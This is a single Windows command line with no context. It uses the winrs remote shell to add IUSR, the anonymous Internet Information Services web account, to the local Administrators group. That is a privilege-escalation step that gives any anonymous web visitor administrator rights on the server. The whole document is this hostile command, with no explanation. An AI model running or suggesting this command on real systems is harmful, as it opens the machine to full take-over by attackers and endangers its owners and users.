winrs -r:localhost net localgroup Administrators IUSR /add
